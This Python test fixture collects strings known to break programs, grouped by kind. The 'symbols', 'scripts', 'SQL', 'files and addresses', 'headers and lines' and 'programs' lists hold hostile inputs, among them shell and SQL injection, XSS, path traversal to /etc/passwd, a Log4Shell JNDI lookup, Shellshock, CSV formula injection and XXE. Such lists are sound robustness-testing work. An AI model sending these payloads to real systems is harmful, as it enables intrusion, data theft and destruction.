"""Strings that have broken programs before, by kind.

The kinds are those of https://github.com/minimaxir/big-list-of-naughty-strings; the strings our own.
"""

from __future__ import annotations

__all__ = ["NAUGHTY"]

NAUGHTY: dict[str, list[str]] = {
    "empty or reserved": [
        "", " ", "undefined", "null", "NULL", "(null)", "nil", "None", "true", "FALSE", "NaN",
        "Infinity", "-Infinity", "me", "hasOwnProperty", "__proto__", "constructor", "__class__",
        "rows", "columns",
    ],
    "numbers": [
        "0", "-0", "1e400", "-1", "0x0", "0xffffffffffffffff", "1/0", "1,000.00", "9" * 400,
        "1.5e-1000", "００７", "٣", "²", "½",
    ],
    "symbols": [
        ",./;'[]\\-=", '<>?:"{}|_+', "!@#$%^&*()`~", "%", "%00", "%s%n%x%d", "{0}", "{}", "${a}",
        "$(id)", "`id`", "|id", ";id;", "&&id", "#{7*7}", "{{7*7}}", "{% debug %}", "<%= 7 %>", "*", "?",
    ],
    "control characters": [
        "\x00", "a\x00b", "\x01\x02\x03\x04\x05\x06\x07\x08", "\t", "\n", "\r\n", "\x0b\x0c", "\x1b[2J",
        "\x1b]0;title\x07", "\x7f", "\x80\x9f", "\x85", "\u2028\u2029", "\ufeff", "\ufffe", "\uffff",
    ],
    "invisible and turned around": [
        "\u200b", "\u00a0\u3000", "\u200d\u200c", "\u202egnp.exe", "\u2066test\u2067", "\u00ad",
        "\u061c", "\U000e0001\U000e0061", "a\u0300" + "\u0300" * 200, "\ufffc",
    ],
    "Unicode": [
        "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "ЁЂЃЄЅІЇ", "田中さんにあげて下さい", "بِسْمِ", "שלום", "👩🏽‍🚀", "🇺🇳🇺",
        "ǅ", "ﬁ", "İi̇Iı", "ß", "ſ", "\u1e9e", "\u0130", "K", "Å", "\U0010ffff", "𝕏", "ﷺ",
    ],
    "half a pair": ["\ud800", "\udc00", "a\ud800b", "\udc00\ud800"],
    "scripts": [
        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
        "<svg/onload=alert(1)>", "'-alert(1)-'", "</title><script>", "<!--", "]]>", "<a href=//evil.test>",
        "data:text/html,<script>1</script>",
    ],
    "SQL": [
        "'", "''", '"', "\\", "\\'", "1' OR '1'='1", "'; DROP TABLE users; --", "1; SELECT pg_sleep(9)",
        "' UNION SELECT password_hash FROM users --", "%' OR 1=1 --", "_", "admin'--", ":name", "%(name)s",
        "$1", "?1",
    ],
    "files and addresses": [
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\x00.png", "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/", "//evil.test/", "CON", "NUL", ".", "..", "~root",
        "C:", "a/b", "a%2fb", "#", "?a=b",
    ],
    "headers and lines": [
        "a\r\nSet-Cookie: a=b", "a\nX-Injected: yes", "a\r\n\r\n<html>", '"}\n{"event":"forged"}',
        "嘊嘍X-Injected: yes",
    ],
    "programs": [
        "${jndi:ldap://192.0.2.1/a}", "() { :; }; touch /tmp/pwned", "=1+1", "=cmd|' /C calc'!A0",
        "@SUM(1)", "+1", "__import__('os').system('id')", "eval(1)", "<?php phpinfo(); ?>",
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "*)(uid=*))(|(uid=*",
    ],
    "long": ["a" * 257, "a" * 70_000, "ä" * 5000, "a" * 1025, "👾" * 5000, " " * 10_000],
}  # fmt: skip
